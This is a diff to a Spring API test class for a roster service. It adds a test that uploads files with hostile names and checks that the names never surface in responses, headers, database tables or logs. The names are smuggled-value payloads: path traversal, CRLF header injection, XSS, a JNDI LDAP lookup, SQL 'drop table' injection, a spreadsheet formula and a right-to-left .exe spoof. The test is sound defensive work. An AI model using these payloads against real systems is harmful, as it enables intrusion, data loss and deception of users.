@@ -21,12 +21,17 @@ import static org.springframework.test.web.servlet.result.MockMvcResultMatchers.
 import id.payung.agreement.AgreementId;
 import id.payung.support.PayungTest;
 import id.payung.support.ProcessDriver;
+import java.util.List;
 import java.util.stream.IntStream;
 import org.junit.jupiter.api.BeforeEach;
 import org.junit.jupiter.api.Test;
+import org.junit.jupiter.api.extension.ExtendWith;
 import org.junit.jupiter.params.ParameterizedTest;
 import org.junit.jupiter.params.provider.CsvSource;
+import org.junit.jupiter.params.provider.ValueSource;
 import org.springframework.beans.factory.annotation.Autowired;
+import org.springframework.boot.test.system.CapturedOutput;
+import org.springframework.boot.test.system.OutputCaptureExtension;
 import org.springframework.jdbc.core.simple.JdbcClient;
 import org.springframework.mock.web.MockMultipartFile;
 import org.springframework.test.web.servlet.MockMvc;
@@ -36,6 +41,7 @@ import org.springframework.web.context.WebApplicationContext;
 
 /** The roster's API as its callers see it. */
 @PayungTest
+@ExtendWith(OutputCaptureExtension.class)
 class RosterApiTests {
 
     @Autowired
@@ -183,6 +189,51 @@ class RosterApiTests {
         web.perform(get("/api/agreements/{id}/rosters", agreement).with(user("verifier.3375")))
                 .andExpect(jsonPath("$[0].id").value(roster.toString()));
         web.perform(get("/api/rosters/{id}", roster).with(user("officer.srg"))).andExpect(status().isNotFound());
+    }
+
+    @ParameterizedTest
+    @ValueSource(
+            strings = {
+                "../../../../tmp/payung-was-here.csv",
+                "C:\\Windows\\payung-was-here.csv",
+                "/etc/payung-was-here\0.csv",
+                "payung-was-here\r\nSet-Cookie: a=b.csv",
+                "payung-was-here\"; filename=\"b.csv",
+                "<script>alert('payung-was-here')</script>.csv",
+                "${jndi:ldap://payung-was-here.invalid/x}.csv",
+                "'; drop table roster; -- payung-was-here",
+                "=HYPERLINK(payung-was-here).csv",
+                "\u202Evsc.payung-was-here.exe",
+                "payung-was-here 3375010503800001.xlsx",
+                "CON payung-was-here."
+            })
+    void theNameOfAFileIsNotKeptNorTold(String name, CapturedOutput output) throws Exception {
+        var agreement = fixture.agreement(5);
+        fixture.askedFor(agreement, 1);
+        var good = new MockMultipartFile("file", name, "text/csv", (HEADER + man(1) + "\n").getBytes(UTF_8));
+        var bad = new MockMultipartFile("file", name, "text/csv", "%PDF-1.7".getBytes(UTF_8));
+
+        for (var answer : List.of(
+                check("officer.3375", PEKALONGAN, good).andExpect(status().isOk()),
+                check("officer.3375", PEKALONGAN, bad).andExpect(status().isUnprocessableEntity()),
+                upload("officer.3375", agreement, bad).andExpect(status().isUnprocessableEntity()),
+                upload("officer.3375", agreement, good).andExpect(status().isAccepted()))) {
+            var response = answer.andReturn().getResponse();
+            assertThat(response.getContentAsString()).doesNotContain("payung-was-here");
+            assertThat(response.getHeaderNames()).doesNotContain("Set-Cookie");
+            assertThat(response.getHeaderNames().stream().map(response::getHeaders))
+                    .noneMatch(values -> values.toString().contains("payung-was-here"));
+        }
+        driver.runDueJobs();
+
+        for (String table : List.of("roster", "roster_check", "roster_finding", "roster_person", "journal")) {
+            assertThat(jdbc.sql("select count(*) from %s t where t::text like '%%payung-was-here%%'".formatted(table))
+                            .query(Integer.class)
+                            .single())
+                    .as(table)
+                    .isZero();
+        }
+        assertThat(output.getAll()).doesNotContain("payung-was-here");
     }
 
     @Test
